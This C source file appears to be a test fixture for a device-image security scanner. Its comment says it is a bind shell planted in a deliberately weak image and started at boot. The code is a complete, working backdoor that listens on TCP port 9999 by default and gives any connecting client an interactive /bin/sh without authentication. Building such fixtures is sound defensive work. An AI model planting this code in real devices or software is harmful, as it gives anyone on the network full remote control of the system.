/* A bind shell as found in real device images: it listens on a TCP port and hands each
 * connection to /bin/sh, without asking who connects. Planted in the weak test image,
 * started at boot; it is never run by the tests. */
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    int port = argc > 1 ? atoi(argv[1]) : 9999;
    int server = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in address;
    memset(&address, 0, sizeof address);
    address.sin_family = AF_INET;
    address.sin_port = htons(port);
    address.sin_addr.s_addr = htonl(INADDR_ANY);
    if (server < 0 || bind(server, (struct sockaddr *)&address, sizeof address) < 0 || listen(server, 1) < 0)
        return 1;
    for (;;) {
        int client = accept(server, NULL, NULL);
        if (client < 0)
            continue;
        if (fork() == 0) {
            dup2(client, 0);
            dup2(client, 1);
            dup2(client, 2);
            execl("/bin/sh", "sh", "-i", (char *)NULL);
            _exit(127);
        }
        close(client);
    }
}
